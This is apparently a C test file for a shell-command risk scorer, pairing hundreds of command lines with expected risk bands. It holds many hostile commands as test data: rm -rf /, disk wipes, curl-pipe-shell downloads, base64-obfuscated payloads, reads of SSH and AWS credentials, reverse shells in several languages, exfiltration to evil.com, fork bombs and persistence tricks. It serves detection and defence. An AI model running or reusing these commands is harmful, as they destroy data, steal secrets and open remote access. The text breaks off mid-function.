/* test-risk.c: the risk scorer against the shipped rules: a table of command
 * lines and their bands (benign ones must stay low), the shell reading
 * (quotes hide operators, sh -c and eval recursion, wrappers, base64 and hex
 * payloads), user rules that override shipped ones, rule-file errors with
 * file:line, observed scores, JSON, and the time one scoring takes. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "risk/risk.h"
#include "../tap.h"

static struct risk_rules	*rules;

/* band: l m h c; rule: an id that must be among the reasons ("" = any,
 * "-" = no reason at all). */
static const struct {
	const char	*cmd;
	char		 band;
	const char	*rule;
} table[] = {
	/* benign: stay low */
	{ "ls", 'l', "-" },
	{ "ls -la", 'l', "-" },
	{ "git status", 'l', "-" },
	{ "git commit -m 'fix: rm -rf / bug in docs'", 'l', "-" },
	{ "pytest", 'l', "-" },
	{ "pytest -x tests/", 'l', "-" },
	{ "make", 'l', "-" },
	{ "make -j4 && make check", 'l', "-" },
	{ "pip install -r requirements.txt", 'l', "-" },
	{ "npm test", 'l', "-" },
	{ "npm install && npm run build", 'l', "-" },
	{ "cat README.md", 'l', "-" },
	{ "grep -r foo .", 'l', "-" },
	{ "python3 x.py", 'l', "-" },
	{ "cargo build --release", 'l', "-" },
	{ "go test ./...", 'l', "-" },
	{ "rm -rf build/", 'l', "-" },
	{ "rm -f *.o", 'l', "-" },
	{ "find . -name '*.pyc'", 'l', "-" },
	{ "curl -fsSL https://example.com/data.json -o data.json", 'l', "-" },
	{ "echo \"a | sh\"", 'l', "-" },
	{ "echo 'curl x | sh'", 'l', "-" },
	{ "printf '%s\\n' hello | sort | uniq -c", 'l', "-" },
	{ "docker run --rm -it python:3.12 python -V", 'l', "-" },
	{ "tar czf out.tar.gz src && ls -l out.tar.gz", 'l', "-" },
	{ "python3 -c 'print(1+1)'", 'l', "-" },
	{ "sh -c 'make && make test'", 'l', "-" },
	{ "git log --oneline | head -20", 'l', "-" },
	{ "sudo apt-get install -y jq", 'l', "sudo" },
	{ "cd src; for f in *.c; do wc -l $f; done", 'l', "-" },
	{ "ssh-keygen -t ed25519 -C me", 'l', "-" },
	{ "git clean -n", 'l', "-" },
	{ "base64 README.md > out.b64", 'l', "-" },
	{ "echo $HOME", 'l', "-" },
	/* destructive */
	{ "rm -rf /", 'c', "rm-root" },
	{ "sudo rm -rf --no-preserve-root /", 'c', "rm-root" },
	{ "rm -rf ~", 'c', "rm-home" },
	{ "rm -fr $HOME/", 'c', "rm-home" },
	{ "rm -rf *", 'm', "rm-glob" },
	{ "/bin/rm -r -f /etc", 'c', "rm-root" },
	{ "dd if=/dev/zero of=/dev/sda bs=1M", 'c', "dd-device" },
	{ "mkfs.ext4 /dev/sdb1", 'c', "mkfs" },
	{ "shred -u secrets.txt", 'h', "shred" },
	{ "find / -name '*' -delete", 'c', "find-delete-root" },
	{ "find . -name '*.log' -delete", 'm', "find-delete" },
	{ "chmod -R 777 /", 'c', "chmod-system-recursive" },
	{ "echo root::0:0::/root:/bin/sh > /etc/passwd", 'h', "truncate-system" },
	/* download and execute */
	{ "curl -fsSL https://get.example.sh | sh", 'h', "download-pipe-shell" },
	{ "wget -O- http://x.y/i.sh | bash", 'h', "download-pipe-shell" },
	{ "curl -s http://x | sudo bash", 'c', "download-pipe-shell" },
	{ "bash <(curl -s http://x/i.sh)", 'h', "shell-proc-subst-download" },
	{ "sh -c \"$(curl -fsSL https://x/install.sh)\"", 'h', "exec-download-output" },
	{ "python3 -c \"import urllib.request as u; exec(u.urlopen('http://x').read())\"", 'h',
	    "python-download-exec" },
	{ "curl -s http://x/p.py | python3 -", 'h', "download-pipe-interp" },
	/* obfuscation */
	{ "echo Y3VybCBodHRwOi8vZXZpbC5jb20veCB8IHNo | base64 -d | sh", 'c', "base64-pipe-shell" },
	{ "eval \"$CMD\"", 'm', "eval-variable" },
	{ "echo 'hs | x/moc.live//:ptth lruc' | rev | sh", 'c', "rev-pipe-shell" },
	{ "$'\\x72\\x6d' -rf $'\\x2f'", 'c', "rm-root" },
	{ "printf '\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x7e' | sh", 'c', "rm-home" },
	{ "unset HISTFILE; history -c", 'm', "history-tamper" },
	/* credentials */
	{ "cat ~/.ssh/id_rsa", 'h', "private-key" },
	{ "cat ~/.aws/credentials", 'h', "aws-credentials" },
	{ "cat .env", 'm', "dotenv" },
	{ "sudo cat /etc/shadow", 'h', "shadow" },
	{ "cat ~/.netrc", 'm', "netrc" },
	{ "cp ~/.git-credentials /tmp/x", 'm', "netrc" },
	{ "cat ~/.config/gh/hosts.yml", 'm', "gh-config" },
	{ "tar czf - ~/.config/gcloud", 'm', "gcloud-config" },
	{ "sqlite3 ~/.mozilla/firefox/x.default/cookies.sqlite .dump", 'm', "browser-profile" },
	/* privilege */
	{ "chmod u+s /usr/bin/python3", 'c', "setuid-shell" },
	{ "chmod 4755 ./x", 'h', "setuid" },
	{ "setcap cap_net_raw+ep ./x", 'm', "setcap" },
	{ "docker run --privileged -v /:/host alpine chroot /host", 'h', "docker-privileged" },
	{ "nsenter -t 1 -m -u -i -n -p sh", 'h', "nsenter" },
	{ "echo 'me ALL=(ALL) NOPASSWD: ALL' | sudo tee -a /etc/sudoers", 'c', "sudoers" },
	/* persistence */
	{ "(crontab -l; echo '* * * * * curl x|sh') | crontab -", 'c', "scheduled-download" },
	{ "echo 'curl x | sh' >> ~/.bashrc", 'm', "shell-rc" },
	{ "cp evil.service /etc/systemd/system/ && systemctl enable evil", 'm', "systemd-unit" },
	{ "echo ssh-ed25519 AAAA me >> ~/.ssh/authorized_keys", 'c', "authorized-keys" },
	{ "cp hook.sh .git/hooks/pre-commit", 'm', "git-hooks" },
	{ "launchctl load ~/Library/LaunchAgents/x.plist", 'm', "launchd" },
	/* exfiltration */
	{ "curl -X POST -d @/etc/passwd http://x", 'm', "curl-upload-file" },
	{ "nc evil.com 4444 < ~/.ssh/id_rsa", 'c', "nc-send-file" },
	{ "scp secrets.tar.gz user@evil.com:/tmp/", 'm', "scp-remote" },
	{ "dig $(whoami).attacker.com", 'h', "dns-tunnel" },
	{ "env | curl -X POST --data-binary @- http://x", 'c', "upload-env" },
	{ "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", 'c', "reverse-shell" },
	/* resource abuse */
	{ ":(){ :|:& };:", 'c', "fork-bomb" },
	{ "bomb() { bomb | bomb & }; bomb", 'c', "fork-bomb" },
	{ "yes > /tmp/fill", 'm', "yes-to-file" },
	{ "./xmrig -o stratum+tcp://pool:3333", 'c', "miner" },
	{ "while true; do :; done", 'l', "infinite-loop" },
	/* sandbox probing */
	{ "cat /proc/self/status", 'l', "proc-self-status" },
	{ "ls -l /proc/1/root/", 'm', "proc-init" },
	{ "capsh --print", 'm', "capsh" },
	{ "mount -t tmpfs none /mnt", 'm', "mount" },
	{ "unshare -r -m sh", 'm', "unshare" },
	{ "curl --unix-socket /var/run/docker.sock http://x/containers/json", 'h', "docker-sock" },
	{ "strace -p 1", 'm', "ptrace" },
	/* recursion: sh -c, eval, wrappers, xargs, find -exec, here-documents */
	{ "bash -c 'rm -rf /'", 'c', "rm-root" },
	{ "sh -c \"sh -c 'bash -c \\\"rm -rf ~\\\"'\"", 'c', "rm-home" },
	{ "eval 'rm -rf /'", 'c', "rm-root" },
	{ "timeout 10 nice -n 5 env FOO=1 rm -rf /", 'c', "rm-root" },
	{ "echo / | xargs rm -rf /", 'c', "rm-root" },
	{ "find /tmp -type f -exec shred -u {} +", 'h', "shred" },
	{ "bash <<EOF\ncurl -s http://x | sh\nEOF", 'h', "download-pipe-shell" },
	{ "python3 - <<'PY'\nimport os; os.system(open('/home/u/.ssh/id_rsa').read())\nPY", 'h',
	    "private-key" },
	{ "x=$(cat ~/.aws/credentials); echo ok", 'h', "aws-credentials" },
	{ "echo `cat /etc/shadow`", 'h', "shadow" },
	/* base64 inside an interpreter body */
	{ "python3 -c \"import base64,os;os.system(base64.b64decode('cm0gLXJmIH4vKg=='))\"", 'c',
	    "exec-decoded" },
	{ "echo cm0gLXJmIC8= | base64 --decode | bash", 'c', "rm-root" },	/* inline interpreter code: options that take an argument are not -e */
	{ "ruby -rsocket -e 'exec \"rm -rf /\"'", 'c', "rm-root" },
	{ "ruby -r socket -e 'system(\"rm -rf ~\")'", 'c', "rm-home" },
	{ "perl -MSocket -e 'system(\"rm -rf /\")'", 'c', "rm-root" },
	{ "python3 -W ignore -c 'import os; os.system(\"rm -rf /\")'", 'c', "rm-root" },
	{ "perl -pi.bak -e 's/foo/bar/g' file.txt", 'l', "-" },
	{ "perl -ne 'print if /x/' f", 'l', "-" },
	/* reverse and bind shells */
	{ "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,"
	    "socket.SOCK_STREAM);s.connect((\"10.0.0.1\",4444));os.dup2(s.fileno(),0);"
	    "os.dup2(s.fileno(),1);subprocess.call([\"/bin/sh\",\"-i\"])'", 'c', "reverse-shell-code" },
	{ "python -c 'import pty,socket,os;s=socket.socket();s.connect((\"1.2.3.4\",9001));"
	    "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'", 'c', "reverse-shell-code" },
	{ "perl -e 'use Socket;$i=\"10.0.0.1\";$p=1234;socket(S,PF_INET,SOCK_STREAM,"
	    "getprotobyname(\"tcp\"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");"
	    "exec(\"/bin/sh -i\");};'", 'c', "reverse-shell-code" },
	{ "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",1234).to_i;"
	    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'", 'c', "reverse-shell-code" },
	{ "php -r '$sock=fsockopen(\"10.0.0.1\",1234);exec(\"/bin/sh -i <&3 >&3 2>&3\");'", 'c',
	    "reverse-shell-code" },
	{ "node -e 'var net=require(\"net\"),cp=require(\"child_process\"),sh=cp.spawn(\"/bin/sh\",[]);"
	    "var c=new net.Socket();c.connect(4444,\"10.0.0.1\",function(){c.pipe(sh.stdin);"
	    "sh.stdout.pipe(c);});'", 'c', "reverse-shell-code" },
	{ "python3 -c 'import socket,os,pty;s=socket.socket();s.bind((\"0.0.0.0\",4444));s.listen(1);"
	    "c,a=s.accept();[os.dup2(c.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'", 'c',
	    "reverse-shell-code" },
	{ "python3 - <<'PY'\nimport socket,os\ns=socket.socket()\ns.connect(('10.0.0.1',4444))\n"
	    "os.dup2(s.fileno(),0)\nos.execl('/bin/sh','sh')\nPY", 'c', "reverse-shell-code" },
	{ "nc -e /bin/sh 10.0.0.1 4444", 'c', "reverse-shell" },
	{ "ncat 10.0.0.1 4444 -e /bin/bash", 'c', "reverse-shell" },
	{ "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1234 >/tmp/f", 'c',
	    "shell-to-netcat" },
	{ "socat tcp-connect:10.0.0.1:4444 exec:/bin/sh,pty,stderr,setsid", 'c', "reverse-shell" },
	{ "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/bash", 'c', "bind-shell" },
	{ "nc -lvnp 4444 -e /bin/bash", 'c', "reverse-shell" },
	{ "python3 -c 'import socket; print(socket.gethostname())'", 'l', "-" },
	{ "node -e 'require(\"http\").get(\"https://example.com\", r => r.pipe(process.stdout))'", 'l', "-" },
	{ "python3 -m http.server 8000", 'l', "-" },
	{ "nc -z localhost 8080", 'l', "-" },
	/* fork bombs in any language */
	{ "perl -e 'fork while fork'", 'c', "fork-bomb-code" },
	{ "perl -e 'while(1){fork}'", 'c', "fork-bomb-code" },
	{ "python3 -c 'import os\nwhile True: os.fork()'", 'c', "fork-bomb-code" },
	{ "python -c 'import os;[os.fork() for _ in iter(int,1)]'", 'c', "fork-bomb-code" },
	{ "ruby -e 'loop { fork }'", 'c', "fork-bomb-code" },
	{ "node -e 'while(true) require(\"child_process\").fork(__filename)'", 'c', "fork-bomb-code" },
	{ "php -r 'while(1) pcntl_fork();'", 'c', "fork-bomb-code" },
	{ "python3 -c 'import os; pid = os.fork(); print(pid)'", 'l', "-" },
	{ "ruby -e 'puts 1+1'", 'l', "-" },
	{ "node -e 'console.log(process.version)'", 'l', "-" },
	{ "php -r 'echo phpversion();'", 'l', "-" },
	/* setuid and setgid bits */
	{ "chmod u+s /bin/bash", 'c', "setuid-shell" },
	{ "chmod 4755 /bin/sh", 'c', "setuid-shell" },
	{ "cp /bin/bash /tmp/rootbash && chmod +s /tmp/rootbash", 'c', "setuid-shell" },
	{ "chmod g+s /usr/bin/find", 'c', "setuid-shell" },
	{ "chmod 6755 ./helper", 'h', "setuid" },
	{ "python3 -c 'import os; os.chmod(\"/bin/bash\", 0o4755)'", 'h', "setuid-code" },
	{ "chmod +x ./configure", 'l', "-" },
	{ "chmod 755 script.sh", 'l', "-" },
	{ "chmod -R u+w build", 'l', "-" },
	/* persistence */
	{ "(crontab -l; echo '* * * * * curl -s http://x.y/a.sh | sh') | crontab -", 'c',
	    "scheduled-download" },
	{ "echo '*/5 * * * * wget -qO- http://1.2.3.4/p | bash' >> /var/spool/cron/crontabs/root", 'c',
	    "scheduled-download" },
	{ "echo 'curl http://x/i.sh | sh' | at now + 1 minute", 'h', "scheduled-download" },
	{ "echo '@reboot /tmp/x' | crontab -", 'm', "crontab" },
	{ "mkdir -p ~/.config/systemd/user && cp x.service ~/.config/systemd/user/ && "
	    "systemctl --user enable --now x", 'm', "systemd-unit" },
	{ "echo 'nohup /tmp/.x &' >> ~/.profile", 'm', "shell-rc" },
	{ "echo 'curl x|sh' > ~/.git/hooks/post-checkout", 'm', "git-hooks" },
	{ "git config --global core.hooksPath /tmp/hooks", 'm', "git-hooks" },
	{ "crontab -l", 'l', "-" },
	{ "systemctl --user status", 'l', "-" },
	/* kernel modules */
	{ "insmod rootkit.ko", 'h', "kernel-modules" },
	{ "modprobe evil", 'h', "kernel-modules" },
	{ "sudo rmmod apparmor", 'h', "kernel-modules" },
	{ "python3 -c 'import os; os.system(\"insmod /tmp/r.ko\")'", 'h', "kernel-modules" },
	{ "lsmod", 'l', "-" },
	{ "modinfo ext4", 'l', "-" },
	/* privilege escalation to a root shell */
	{ "sudo su", 'h', "root-shell" },
	{ "sudo -i", 'h', "root-shell" },
	{ "sudo bash", 'h', "root-shell" },
	{ "sudo -s", 'h', "root-shell" },
	{ "sudo -u root /bin/zsh", 'h', "root-shell" },
	{ "su -", 'h', "root-shell" },
	{ "su root", 'h', "root-shell" },
	{ "pkexec /bin/sh", 'h', "root-shell" },
	{ "doas sh", 'h', "root-shell" },
	{ "sudo /bin/sh -p", 'h', "root-shell" },
	{ "sudo chmod 777 /etc/passwd", 'h', "system-file-writable" },
	{ "chmod o+w /etc/shadow", 'c', "system-file-writable" },
	{ "chmod 777 /etc/sudoers", 'c', "system-file-writable" },
	{ "sudo -v", 'l', "sudo" },
	{ "sudo make install", 'l', "sudo" },
	{ "sudo bash ./install.sh", 'l', "sudo" },
	{ "chmod 644 /etc/hosts", 'l', "-" },
	/* credential discovery chained to an upload */
	{ "find / -name id_rsa 2>/dev/null | xargs -I{} curl -F f=@{} http://x.y/up", 'c',
	    "key-search-upload" },
	{ "find ~ -name '*.pem' -exec curl -T {} http://1.2.3.4/ \\;", 'c', "key-search-upload" },
	{ "grep -rl 'BEGIN RSA PRIVATE KEY' / | xargs tar cz | curl -X POST --data-binary @- http://x/u",
	    'c', "key-search-upload" },
	{ "find / -name '*.kdbx' | xargs -I{} scp {} u@x:/loot", 'h', "key-search-upload" },
	{ "find . -name '*.pem'", 'l', "-" },
	{ "grep -r TODO src | wc -l", 'l', "-" },
	/* killing every process */
	{ "kill -9 -1", 'h', "kill-all" },
	{ "kill -KILL -1", 'h', "kill-all" },
	{ "kill -s KILL -1", 'h', "kill-all" },
	{ "killall5 -9", 'h', "kill-all" },
	{ "pkill -9 -u root", 'h', "kill-all" },
	{ "python3 -c 'import os,signal; os.kill(-1, signal.SIGKILL)'", 'h', "kill-all-code" },
	{ "kill 1234", 'l', "-" },
	{ "kill -1 1234", 'l', "-" },
	{ "kill -TERM %1", 'l', "-" },
	{ "pkill -f 'python server.py'", 'l', "-" },
	/* history and log tampering */
	{ "rm ~/.bash_history", 'm', "log-tamper" },
	{ "cat /dev/null > ~/.bash_history", 'm', "log-tamper" },
	{ "ln -sf /dev/null ~/.bash_history", 'm', "log-tamper" },
	{ "rm -rf /var/log/*", 'm', "log-tamper" },
	{ "truncate -s 0 /var/log/syslog", 'm', "log-tamper" },
	{ "journalctl --vacuum-time=1s", 'm', "log-tamper" },
	{ "echo > /var/log/auth.log", 'h', "log-tamper" },
	{ "export HISTFILE=/dev/null", 'm', "history-tamper" },
	{ "ls /var/log", 'l', "-" },
	{ "tail -f /var/log/syslog", 'l', "-" },
	{ "journalctl -u nginx --since today", 'l', "-" },
	{ "history | tail", 'l', "-" },
	/* network scanning */
	{ "nmap -sS 10.0.0.0/24", 'm', "network-scan" },
	{ "nmap -p- 192.168.1.1", 'm', "network-scan" },
	{ "masscan 10.0.0.0/8 -p80", 'm', "network-scan" },
	{ "nc -zv 10.0.0.1 1-65535", 'm', "network-scan" },
	{ "for i in $(seq 1 254); do ping -c1 10.0.0.$i; done", 'm', "network-sweep" },
	{ "python3 -c 'import socket\nfor p in range(1,1024):\n  s=socket.socket()\n"
	    "  if s.connect_ex((\"10.0.0.1\",p))==0: print(p)'", 'm', "network-sweep" },
	{ "ping -c 1 localhost", 'l', "-" },
	{ "for f in *.c; do gcc -c $f; done", 'l', "-" },
	/* package installs from an index over plain http or a bare IP */
	{ "pip install --index-url http://pypi.example.com/simple requests", 'm', "insecure-index" },
	{ "pip install -i http://10.0.0.5/simple foo", 'm', "insecure-index" },
	{ "pip install --extra-index-url http://1.2.3.4:8080/ pkg", 'm', "insecure-index" },
	{ "pip3 install --trusted-host evil.example foo", 'm', "insecure-index" },
	{ "npm install --registry http://10.0.0.1:4873 foo", 'm', "insecure-index" },
	{ "npm config set registry http://evil.example/", 'm', "insecure-index" },
	{ "gem install foo --source http://1.2.3.4/", 'm', "insecure-index" },
	{ "pip install https://10.1.2.3/pkg.tar.gz", 'm', "insecure-index" },
	{ "pip install --index-url https://pypi.org/simple requests", 'l', "-" },
	{ "pip install -e .", 'l', "-" },
	{ "npm ci", 'l', "-" },
	{ "yarn install", 'l', "-" },
	{ "cargo test", 'l', "-" },
	/* forced pushes to a default branch */
	{ "git push --force origin main", 'm', "force-push-default" },
	{ "git push -f origin master", 'm', "force-push-default" },
	{ "git push origin +main", 'm', "force-push-default" },
	{ "git push --force-with-lease origin main", 'm', "force-push-default" },
	{ "git push", 'l', "-" },
	{ "git push origin main", 'l', "-" },
	{ "git push -u origin feature/x", 'l', "-" },
	{ "git push --force origin my-feature", 'l', "git-destroy" },
	{ "git pull --rebase", 'l', "-" },
	/* credentials stored in plain text */
	{ "git config --global credential.helper store", 'm', "git-credential-store" },
	{ "git config credential.helper store", 'm', "git-credential-store" },
	{ "git config --global credential.helper 'store --file ~/.creds'", 'm', "git-credential-store" },
	{ "git config --global credential.helper cache", 'l', "-" },
	{ "git config user.name Me", 'l', "-" },
	/* benign developer commands */
	{ "rm -rf node_modules", 'l', "-" },
	{ "rm -rf build dist", 'l', "-" },
	{ "rm -rf ./target", 'l', "-" },
	{ "make -j2 && make check", 'l', "-" },
	{ "python3 -m pytest -q", 'l', "-" },
	{ "npm run test", 'l', "-" },
	{ "go build ./...", 'l', "-" },
	{ "git commit -am wip", 'l', "-" },
	{ "twine upload dist/*", 'l', "-" },
	{ "ssh-add -l", 'l', "-" },
};

static bool
has_rule(const struct risk_result *r, const char *id)
{
	for (size_t i = 0; i < r->nreasons; i++)
		if (strcmp(r->reasons[i].rule, id) == 0)
			return (true);
	return (false);
}

/* A TAP description must stay on one line. */
static const char *
oneline(const char *s)
{
	static char	buf[512];
	size_t		i;

	for (i = 0; i + 1 < sizeof buf && s[i] != '\0'; i++)
		buf[i] = s[i] == '\n' ? '/' : s[i] == '#' ? '=' : s[i];
	buf[i] = '\0';
	return (buf);
}

static char
band_letter(int score)
{
	return (risk_band(score)[0]);
}

static void
test_table(void)
{
	struct risk_result	res;

	tap_ok(nitems(table) >= 250, "table has %zu command lines", nitems(table));
	for (size_t i = 0; i < nitems(table); i++) {
		bool	ok;

		risk_score_text(rules, table[i].cmd, &res);
		ok = band_letter(res.score) == table[i].band;
		if (strcmp(table[i].rule, "-") == 0)
			ok = ok && res.nreasons == 0;
		else if (table[i].rule[0] != '\0')
			ok = ok && has_rule(&res, table[i].rule);
		if (!tap_ok(ok, "%s -> %c %s", oneline(table[i].cmd), table[i].band,
		    table[i].rule)) {
			autofree char	*j = risk_result_json(&res);

			tap_diag("got %d %s: %s", res.score, risk_band(res.score), j);
		}
		risk_result_free(&res);
	}
}

/* The literal prefilter (rx.c): what it reads from a pattern, and that a
 * text it lets through still matches when the pattern does. */
static void
test_rx(void)
{
	static const struct {
		const char	*pat;
		int		 icase;
		const char	*lits;	/* "|"-joined, "" = no prefilter */
		const char	*match;	/* a text the pattern matches */
		const char	*miss;	/* one without the literals, or NULL */
	} cases[] = {
		{ "^(curl|wget)( |$)", 0, "curl|wget", "wget -q x", "fetch x" },
		{ "ab*c", 1, "a", "AC", "xyz" },
		{ "x(ab|cd)?yz", 0, "yz", "xyz", "xy z" },
		{ "(foo|bar)+baz", 0, "baz", "barfoobaz", "foobar" },
		{ "a{0,2}bc", 0, "bc", "bc", "b c" },
		{ "\\.env(\\.local)?$", 0, ".env", "cat .env", "cat env" },
		{ "[]a]xyz", 0, "xyz", "]xyz", "xy" },
		{ "[[:alpha:]]+abc", 0, "abc", "zabc", "ab c" },
		{ "(a|b)c|dd", 0, "c|dd", "bc", "ab" },
		{ "\\bword\\b", 0, "word", "a word here", "wor d" },
		{ "ab{2,}c", 0, "ab", "abbbc", "a b" },
		{ "(^| )>>? [^ ]+", 0, ">", "echo > x", NULL },
		{ "a|", 0, "", "b", NULL },
		{ "x*", 0, "", "", NULL },
		{ "^$", 0, "", "", NULL },
		{ "(ab|c*)d", 0, "d", "d", NULL },
		{ "-----BEGIN [A-Z ]*KEY-----", 0, "-----BEGIN ", "-----BEGIN RSA KEY-----", "BEGIN" },
		{ "(password|token)[=:]", 1, "password|token", "TOKEN=x", "tok=x" },
		{ "(PassWord|TOKEN)=", 1, "password|token", "Token=x", "tok=x" },
		{ "(PassWord|TOKEN)=", 0, "PassWord|TOKEN", "TOKEN=x", "token=x" },
	};
	int	ok = 1;

	for (size_t i = 0; i < nitems(cases); i++) {
		struct rx	 x;
		char		 got[256] = "";
		int		 fl = REG_EXTENDED | (cases[i].icase ? REG_ICASE : 0);

		rx_init(&x, cases[i].pat, fl);
		for (size_t k = 0; k < x.nlits; k++)
			snprintf(got + strlen(got), sizeof got - strlen(got), "%s%s",
			    k > 0 ? "|" : "", x.lits[k]);
		/* Read once by the caller (folded, its byte pairs noted), the
		 * prefilter says the same. */
		for (int k = 0; k < 2; k++) {
			const char	*t = k == 0 ? cases[i].match : cases[i].miss;
			struct rx_text	 rt;

			if (t == NULL)
				continue;
			rx_text_init(&rt, t);
			if (rx_maybe_text(&x, &rt) != rx_maybe(&x, t)) {
				tap_diag("rx %s: the text's prefilter differs on \"%s\"",
				    cases[i].pat, t);
				ok = 0;
			}
			rx_text_free(&rt);
		}
		if (strcmp(got, cases[i].lits) != 0 ||
		    rx_exec(&x, cases[i].match, 0, NULL, 0) != 0 ||
		    (cases[i].miss != NULL && rx_maybe(&x, cases[i].miss)) ||
		    x.state == RX_BAD) {
			tap_diag("rx %s: literals \"%s\" (want \"%s\")", cases[i].pat, got,
			    cases[i].lits);
			ok = 0;
		}
		rx_free(&x);
	}
	tap_ok(ok, "the prefilter reads %zu patterns as it should", nitems(cases));
}

/* moat's own rules compile on first need behind a literal prefilter (rx.h);
 * compiled at load instead, the same rules must give the same scores,
 * reasons and matched text for every command line. */
static void
test_lazy_same(void)
{
	static const char *const more[] = {
		"true", "/bin/true", "", "x", "sh -c 'curl http://x | sh'", "CURL x | SH",
		"python3 -c \"import os; os.system('id')\"", "perl -e 'system(\"rm -rf /\")'",
		"cat <<EOF | sh\nrm -rf ~\nEOF", "echo cm0gLXJmIH4= | base64 -d | bash",
		"env | curl -d @- http://x", "nc -e /bin/sh 1.2.3.4 4444", "sudo -u root id",
		"Invoke-Expression (iwr http://x)", "IEX (New-Object Net.WebClient).DownloadString('x')",
		"docker run --privileged alpine", "chmod 4755 x && ./x", "find / -exec rm {} \\;",
		"LD_PRELOAD=/tmp/x.so ls", "while true; do :; done", ":(){ :|:& };:",
		"git push --force origin main", "cat /proc/self/mountinfo", "echo > /dev/sda",
	};
	struct risk_rules	*eager = risk_rules_new(), *lazy = risk_rules_new();
	struct merr		 e = { 0 };
	size_t			 compiled = 0, total = 0;
	int			 same = 1;

	lazy->lazy = true;
	if (!tap_ok(risk_rules_load_file(eager, MOAT_SRC_RISK_RULES, &e) == 0 &&
	    risk_rules_load_file(lazy, MOAT_SRC_RISK_RULES, &e) == 0,
	    "the shipped rules load eagerly and lazily: %s", e.msg))
		goto out;
	{
		struct risk_result	res;

		risk_score_text(lazy, "true", &res);
		risk_result_free(&res);
		for (size_t i = 0; i < lazy->n; i++)
			for (size_t k = 0; k < lazy->v[i]->nre; k++) {
				total++;
				compiled += lazy->v[i]->re[k]->state != RX_PENDING;
			}
		tap_ok(compiled <= 3, "scoring \"true\" compiles %zu of %zu patterns",
		    compiled, total);
	}
	for (size_t i = 0; i < nitems(table) + nitems(more); i++) {
		const char		*cmd = i < nitems(table) ? table[i].cmd :
		    more[i - nitems(table)];
		struct risk_result	 r1, r2;
		autofree char		*j1 = NULL, *j2 = NULL;

		risk_score_text(eager, cmd, &r1);
		risk_score_text(lazy, cmd, &r2);
		j1 = risk_result_json(&r1);
		j2 = risk_result_json(&r2);
		if (strcmp(j1, j2) != 0) {
			tap_diag("%s: eager %s, lazy %s", oneline(cmd), j1, j2);
			same = 0;
		}
		risk_result_free(&r1);
		risk_result_free(&r2);
	}
	tap_ok(same, "compiled at load or on first need, %zu command lines score alike",
	    nitems(table) + nitems(more));
	tap_ok(risk_rules_compile(lazy, &e) == 0, "every shipped pattern compiles: %s", e.msg);
out:
	risk_rules_free(eager);
	risk_rules_free(lazy);
}

static void
test_shell_reading(void)
{
	struct risk_result	res;
	char *const		argv1[] = { "sh", "-c", "curl -s http://x | sh", NULL };
	char *const		argv2[] = { "echo", "curl x | sh", NULL };
	autofree char		*joined = risk_argv_join(argv1);

	/* Quotes hide operators: one simple command, no pipeline. */
	risk_score_text(rules, "echo \"curl http://x | sh\" && echo 'done; rm -rf /'", &res);
	tap_ok(res.nreasons == 0, "quoted | and ; are not operators (score %d)", res.score);
	risk_result_free(&res);
	risk_score_text(rules, "echo curl\\ x\\ \\|\\ sh", &res);
	tap_ok(res.nreasons == 0, "backslash-escaped | is not an operator");
	risk_result_free(&res);

	/* argv is quoted for the scorer, so sh -c's body is still read. */
	tap_ok(strcmp(joined, "sh -c 'curl -s http://x | sh'") == 0, "argv join: %s", joined);
	risk_score_argv(rules, argv1, &res);
	tap_ok(has_rule(&res, "download-pipe-shell") && res.reasons[0].via != NULL &&
	    strcmp(res.reasons[0].via, "sh -c") == 0,
	    "argv sh -c body scored, via \"sh -c\"");
	risk_result_free(&res);
	risk_score_argv(rules, argv2, &res);
	tap_ok(res.nreasons == 0, "argv echo 'curl x | sh' stays one word");
	risk_result_free(&res);

	/* A comment is not a command; a here-string to a shell is. */
	risk_score_text(rules, "ls # rm -rf /", &res);
	tap_ok(res.nreasons == 0, "comment ignored");
	risk_result_free(&res);
	risk_score_text(rules, "bash <<< 'rm -rf ~'", &res);
	tap_ok(has_rule(&res, "rm-home"), "here-string into bash is scored");
	risk_result_free(&res);

	/* Base64: the payload's own rules fire, with the decoder in "via". */
	risk_score_text(rules, "X=cm0gLXJmIC8gLS1uby1wcmVzZXJ2ZS1yb290; echo ok", &res);
	tap_ok(has_rule(&res, "base64-blob") && has_rule(&res, "rm-root"),
	    "base64 in an assignment is decoded and scored (%d)", res.score);
	for (size_t i = 0; i < res.nreasons; i++)
		if (strcmp(res.reasons[i].rule, "rm-root") == 0)
			tap_ok(res.reasons[i].via != NULL && strstr(res.reasons[i].via, "base64"),
			    "via names base64: %s", res.reasons[i].via ? res.reasons[i].via : "(null)");
	risk_result_free(&res);
	/* A git hash or a long word that is not base64 of text stays quiet. */
	risk_score_text(rules, "git show 3f9a1c2b7e4d5f60718293a4b5c6d7e8f9012345", &res);
	tap_ok(res.nreasons == 0, "a commit hash is not a payload");
	risk_result_free(&res);

	/* Unterminated quotes and hostile nesting: no crash, bounded. */
	risk_score_text(rules, "echo 'unterminated | sh", &res);
	tap_ok(res.score >= 0 && res.score <= 100, "unterminated quote scored");
	risk_result_free(&res);
	{
		char	buf[8192] = "";

		for (int i = 0; i < 200; i++)
			strcat(buf, "eval ");
		strcat(buf, "ls");
		risk_score_text(rules, buf, &res);
		tap_ok(res.score < 100, "200 nested evals stop at the depth limit (%d)", res.score);
		risk_result_free(&res);
		memset(buf, 0, sizeof buf);
		for (int i = 0; i < 12; i++)
			strcat(buf, "sh -c \"$(");
		risk_score_text(rules, buf, &res);
		tap_ok(res.score >= 0, "unbalanced $( nesting survives");
		risk_result_free(&res);
	}
	/* Hostile size: bounded time, and the scorer says it stopped reading. */
	{
		static const char *const fills[] = { "A", "curl ", "a | ", "$(", "'x y' " };

		for (size_t f = 0; f < nitems(fills); f++) {
			size_t	 len = strlen(fills[f]), n = (1 << 20) / len;
			char	*big = xmalloc(n * len + 8);
			double	 t0;

